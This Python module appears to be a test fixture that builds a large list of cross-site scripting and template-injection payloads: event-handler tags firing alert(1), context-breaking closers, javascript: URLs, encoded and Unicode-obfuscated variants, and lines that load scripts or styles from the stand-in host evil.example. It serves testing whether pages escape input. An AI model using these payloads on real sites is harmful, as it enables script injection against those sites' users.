"""What is typed by those who would have a page do more than show it."""

_DO = "alert(1)"
_ELEMENTS = [
    "img src=x onerror",
    "svg onload",
    "body onload",
    "video src=x onerror",
    "audio src=x onerror",
    "iframe onload",
    "input autofocus onfocus",
    "select autofocus onfocus",
    "textarea autofocus onfocus",
    "button autofocus onfocus",
    "details open ontoggle",
    "marquee onstart",
    "object data=x onerror",
    "embed src=x onload",
    "script src=x onerror",
    "link rel=stylesheet href=x onerror",
    "a tabindex=1 autofocus onfocus",
    "div contenteditable autofocus onfocus",
    "style onload",
    "svg><animate attributeName=x dur=1s onbegin",
    "svg><set attributeName=x onbegin",
    "p style=animation:a onanimationstart",
    "div onpointerover",
    "form onformdata",
    "dialog open oncancel",
    "source onerror",
    "track src=x onerror",
    "image src=x onerror",
    "meter onclick",
    "keygen autofocus onfocus",
    "isindex onfocus",
    "frameset onload",
    "math onclick",
    "picture><img src=x onerror",
    "summary onclick",
]
_ENDS = [
    '"',
    "'",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</select>",
    "</option>",
    "</code>",
    "</a>",
    "-->",
    "--!>",
    "]]>",
    "</noscript>",
    "</template>",
    "</svg>",
    "</th></tr></table>",
    '"/><!--',
    "`>",
    '\\">',
    "&quot;>",
    "</main></body></html>",
]
_URLS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    " javascript:alert(1)",
    "javascript://%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x.js",
    "https:evil.example",
    "/\\evil.example",
    "\\\\evil.example\\x",
    "<a href=javascript:alert(1) autofocus>x</a>",
    "<form action=javascript:alert(1)><button>x",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)>x",
]
_TEMPLATES = [
    "{{7*7}}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "<?php alert(1) ?>",
    "[[alert(1)]]",
    "@(alert(1))",
    "{% raw %}<script>alert(1)</script>",
    "{@html '<script>alert(1)</script>'}",
    "(html! { b })",
    "<x :onclick=alert(1) @click=alert(1) v-html=1>",
    "%(alert)s",
    "{0.__class__}",
    "$(alert 1)",
    "`alert 1`",
]
_STYLES = [
    "<style>*{background:url(//evil.example)}</style>",
    "<p style=position:fixed;inset:0;background:red>",
    "x;}*{display:none}",
    "<style>@import'//evil.example'</style>",
    "expression(alert(1))",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "</style><style>body{display:none}",
    "url(javascript:alert(1))",
    "-moz-binding:url(//evil.example)",
]
_ENCODED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253E",
    "\\u003cscript\\u003ealert(1)",
    "\\x3cscript\\x3e",
    "+ADw-script+AD4-",
    "&amp;lt;script&amp;gt;",
    "&NewLine;&Tab;&colon;",
    "&lt",
    "&#0;<b>",
    "\uff1cscript\uff1ealert(1)",
    "\ufeff<script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</script>",
    "<script\u2028>alert(1)</script>",
    "\u00a0<b>\u2003x",
    "<script >alert(1)</script >",
]
_WRITING = [
    "\u202egnp.exe",
    "\u202dabc\u202c",
    "\u2066hidden\u2069",
    "a\u200db\u200c",
    "\u061c\u200f\u200e",
    "z\u0351\u0352\u0353algo",
    "\U000e0041\U000e0042",
    "\u0130\u0131\ufb01",
    "\U0001f469\u200d\U0001f4bb",
    "\u3164",
    "\u202e<script>alert(1)</script>",
    "x\tx  x",
]
_ODD = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<script >alert(1)</script\t>",
    "<<script>alert(1)//<</script>",
    "<script/x>alert(1)</script>",
    "<script>alert`1`</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=module>alert(1)</script>",
    "<svg><script>alert(1)</script>",
    "<svg><style><img src=x onerror=alert(1)>",
    "<math><mi><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror=alert(1)>",
    "<svg/onload=alert(1)",
    "<!--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x/>",
    "<!DOCTYPE x [<!ENTITY y 'z'>]>",
    "<details open ontoggle=alert(1)><summary>x",
    "<form><input name=form value=x>",
    "<input name=form value=theirs>",
    "<button formaction=//evil.example>x",
    "<h1 id=content>x",
    "<a id=rows>",
    "<img name=getElementById>",
    "<p data-copy=key data-reload=0>",
    "<select><option>x",
]


def _all():
    yield from _ODD
    yield from (f"<{element}={_DO}>" for element in _ELEMENTS)
    for end in _ENDS:
        yield f"{end}<script>{_DO}</script>"
        yield f"{end}<img src=x onerror={_DO}>"
        yield f"{end}<svg/onload={_DO}//"
    yield from (
        f"{quote} {way}={_DO} x={quote}" for quote in "\"'" for way in ("onfocus autofocus", "onmouseover", "style")
    )
    yield from [*_URLS, *_TEMPLATES, *_STYLES, *_ENCODED, *_WRITING]


#: All of them, each once.
PAYLOADS = list(dict.fromkeys(_all()))


def joined(longest, payloads=None):
    """The same, as many in one text as it may have letters: fewer pages to look at."""
    texts = [""]
    for payload in payloads or PAYLOADS:
        if len(texts[-1]) + 1 + len(payload) <= longest:
            texts[-1] = f"{texts[-1]} {payload}".lstrip(" ")
        else:
            texts.append(payload)
    return texts


#: Some that do it at once where they are taken for markup.
AT_ONCE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "<input autofocus onfocus=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1)>",
]
